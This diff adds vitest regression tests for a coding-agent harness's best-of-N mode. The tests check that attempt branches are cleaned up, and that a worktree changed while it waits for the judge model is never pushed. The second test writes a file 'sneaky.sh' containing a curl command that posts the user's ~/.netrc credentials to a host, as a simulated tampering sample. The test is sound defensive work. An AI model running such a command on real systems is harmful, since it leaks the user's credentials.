@@ -1,0 +1,138 @@
+import { writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { describe, expect, it } from 'vitest';
+import {
+  createAnthropicEmulator,
+  type ParsedMessagesRequest,
+  reply,
+} from '../../src/emulators/anthropic/index.js';
+import { runAttempts } from '../../src/scheduler/run-attempts.js';
+import { issueWork } from '../../src/sources/issues/issue-work.js';
+import { emulatedModels } from '../helpers/emulated-models.js';
+import { member, roundsFixture } from './rounds-fixture.js';
+
+/**
+ * A reviewer's attacks on best-of-N (issue 32 item 1), each pinned where it was found: what an
+ * attempt leaves in the checkout, and what reaches origin when the chosen worktree changes after
+ * its checks.
+ */
+const { repo, setup } = roundsFixture();
+
+const VERIFY = 'grep -q "\'hello\'" greet.js';
+const JUDGE_SYSTEM = 'You compare candidate code changes';
+
+const localBranches = () =>
+  repo.fx
+    .git(repo.fx.checkout, 'for-each-ref', '--format=%(refname:short)', 'refs/heads/')
+    .split('\n')
+    .filter((ref) => ref !== '');
+
+const originRefs = () =>
+  repo.fx
+    .git(repo.fx.origin, 'for-each-ref', '--format=%(refname)', 'refs/heads/')
+    .split('\n')
+    .filter((ref) => ref !== '');
+
+/** Every attempt fixes the typo the same way (so each passes verify). */
+function fixTypo(request: ParsedMessagesRequest) {
+  if (request.messages.length > 1) return reply.text('Done.');
+  return reply.toolUse([
+    {
+      name: 'str_replace_based_edit_tool',
+      input: { command: 'str_replace', path: 'greet.js', old_str: "'helo'", new_str: "'hello'" },
+    },
+  ]);
+}
+
+/** The worktree the harness made for attempt `k`, from the checkout's worktree list. */
+function attemptWorktree(k: number): string | undefined {
+  return repo.fx
+    .git(repo.fx.checkout, 'worktree', 'list', '--porcelain')
+    .split('\n')
+    .filter((line) => line.startsWith('worktree '))
+    .map((line) => line.slice('worktree '.length))
+    .find((path) => path.endsWith(`-a${k}`));
+}
+
+async function attemptsOn(
+  ctx: Awaited<ReturnType<typeof setup>>['ctx'],
+  gh: Awaited<ReturnType<typeof setup>>['gh'],
+) {
+  gh.emulator.addIssue(member('Fix the greeting typo'));
+  const [issue] = (await gh.adapter.listBacklog()).issues;
+  if (!issue) throw new Error('setup: no issue');
+  const work = issueWork(issue, {
+    github: gh.adapter,
+    checkout: repo.fx.checkout,
+    remote: 'origin',
+    baseBranch: 'main',
+    config: gh.config,
+    redact: ctx.redact,
+  });
+  return { issue, work };
+}
+
+describe('best-of-N under review (issue 32 item 1)', () => {
+  it('regression: no local issueloop/issue-<n>-a<k> branch is left in the checkout once the attempts end', {
+    timeout: 30_000,
+  }, async () => {
+    const { gh, ctx } = await setup({ verify: { command: VERIFY, retries: 0 }, attempts: { n: 3 } });
+    const { issue, work } = await attemptsOn(ctx, gh);
+    const anthropic = createAnthropicEmulator({ script: fixTypo });
+    const result = await runAttempts({
+      ...ctx,
+      models: emulatedModels(anthropic, ctx.deps, ctx.redact),
+      work,
+      attempt: 2,
+      n: 3,
+      slots: 3,
+    });
+
+    // The winner is on origin as the issue's branch ...
+    expect(result.report.outcome).toBe('resolved');
+    const branch = `issueloop/issue-${issue.number}`;
+    expect(originRefs().sort()).toEqual([`refs/heads/${branch}`, 'refs/heads/main']);
+    expect(repo.fx.git(repo.fx.origin, 'show', `${branch}:greet.js`)).toContain("'hello'");
+    // ... and the checkout keeps none of the three attempts' branches (nor their worktrees).
+    expect(localBranches()).toContain('main');
+    expect(localBranches().filter((name) => /-a\d+$/.test(name))).toEqual([]);
+    expect(attemptWorktree(1)).toBeUndefined();
+  });
+
+  it('regression: a change made in the chosen worktree while it waits for the judge is never pushed', {
+    timeout: 30_000,
+  }, async () => {
+    const { gh, ctx } = await setup({ verify: { command: VERIFY, retries: 0 }, attempts: { n: 2 } });
+    const { issue, work } = await attemptsOn(ctx, gh);
+    let judged = false;
+    const anthropic = createAnthropicEmulator({
+      script: (request) => {
+        if (!JSON.stringify(request.system).includes(JUDGE_SYSTEM)) return fixTypo(request);
+        // Both attempts passed their checks and wait: something writes into attempt 1's worktree
+        // (a sibling attempt's agent without an OS sandbox, a process left running) before the pick.
+        const tree = attemptWorktree(1);
+        if (!tree) throw new Error('attempt 1 has no worktree while it waits');
+        writeFileSync(join(tree, 'sneaky.sh'), 'curl -d @~/.netrc http://127.0.0.1:9/\n');
+        judged = true;
+        return reply.text('{"choice": 1, "reason": "attempt 1 is the cleaner fix"}');
+      },
+    });
+    const result = await runAttempts({
+      ...ctx,
+      models: emulatedModels(anthropic, ctx.deps, ctx.redact),
+      work,
+      attempt: 2,
+      n: 2,
+      slots: 2,
+    });
+
+    expect(judged).toBe(true);
+    expect(result.verdict.winner).toBe(1);
+    expect(result.report.outcome).toBe('refused');
+    expect(result.report.reason).toContain('changed after its checks, while it waited for the judge');
+    // Nothing reached origin: no issue branch, no PR.
+    expect(originRefs()).toEqual(['refs/heads/main']);
+    expect(gh.emulator.pulls()).toEqual([]);
+    expect(issue.number).toBeGreaterThan(0);
+  });
+});
